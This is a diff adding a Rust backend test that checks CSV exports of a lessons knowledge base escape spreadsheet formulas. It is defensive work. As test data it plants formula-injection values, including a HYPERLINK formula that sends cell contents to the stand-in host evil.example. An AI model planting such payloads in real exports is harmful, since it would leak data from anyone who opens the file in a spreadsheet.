@@ -20,6 +20,7 @@ backend_tests!(
     the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word,
     the_demo_starts_with_held_visits_and_published_lessons,
     three_months_on_the_requester_is_asked_what_came_of_it,
+    csv_exports_cannot_carry_formulas,
 );
 
 fn link_in(message: &Claimed) -> String {
@@ -651,6 +652,85 @@ async fn the_knowledge_base_shows_published_lessons_only_and_finds_them_by_word(
             ""
         );
     }
+}
+
+/// A coordinator plants formulas in a lesson and its organisation's name;
+/// whoever opens the knowledge base in a spreadsheet sees text.
+async fn csv_exports_cannot_carry_formulas(backend: Backend) {
+    let app = demo_app(backend).await;
+    let host = app
+        .token_for("piet@zwolle.example", Role::Coordinator, Some("GM0193"))
+        .await;
+    let anne = app
+        .token_for(
+            "anne2@sudwestfryslan.example",
+            Role::Coordinator,
+            Some("GM1900"),
+        )
+        .await;
+    let visit = held_visit(&app, &host).await;
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")"#;
+    let own = app.organisation_id("GM1900").await;
+    let (status, body) = app
+        .send(
+            reqwest::Method::PATCH,
+            &format!("/api/v1/organisations/{own}"),
+            Some(&anne),
+            Some(json!({"name": "=1+1 Súdwest-Fryslân"})),
+        )
+        .await;
+    assert_eq!(status, 200, "{body}");
+    let (status, lesson) = app
+        .send(
+            reqwest::Method::POST,
+            &format!("/api/v1/visits/{}/lessons", visit.id),
+            Some(&anne),
+            Some(json!({
+                "situation": "-2+3 applicaties",
+                "strengths": hyperlink,
+                "mistakes": "+31 is geen nummer",
+                "recommendations": "@SUM(A1:A9)",
+                "hoursSaved": 40, "rating": 5, "recommend": true, "publish": "named",
+            })),
+        )
+        .await;
+    assert_eq!(status, 201, "{lesson}");
+    let reader = crate::matrix::partner_token(&app, "lessons:read").await;
+    let body = app
+        .client
+        .get(format!("{}/api/v1/lessons?format=csv", app.address))
+        .bearer_auth(&reader)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let mut rows = csv::Reader::from_reader(body.as_bytes());
+    let header: Vec<String> = rows.headers().unwrap().iter().map(String::from).collect();
+    let row: csv::StringRecord = rows
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r.iter().any(|cell| cell.contains("HYPERLINK")))
+        .expect("the lesson is in the file");
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(cell("strengths"), format!("'{hyperlink}"));
+    assert_eq!(cell("situation"), "'-2+3 applicaties");
+    assert_eq!(cell("mistakes"), "'+31 is geen nummer");
+    assert_eq!(cell("recommendations"), "'@SUM(A1:A9)");
+    assert_eq!(cell("author_name"), "'=1+1 Súdwest-Fryslân");
+    assert_eq!(cell("hours_saved"), "40", "numbers stay numbers");
+    // No cell of the file starts a formula.
+    for record in csv::Reader::from_reader(body.as_bytes()).records() {
+        for c in record.unwrap().iter() {
+            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c}");
+        }
+    }
+    // The JSON has the texts as typed: escaping is the output format's job.
+    let (_, page) = app
+        .send(reqwest::Method::GET, "/api/v1/lessons", Some(&reader), None)
+        .await;
+    assert!(page.to_string().contains("=HYPERLINK"), "{page}");
 }
 
 fn urlencode(s: &str) -> String {
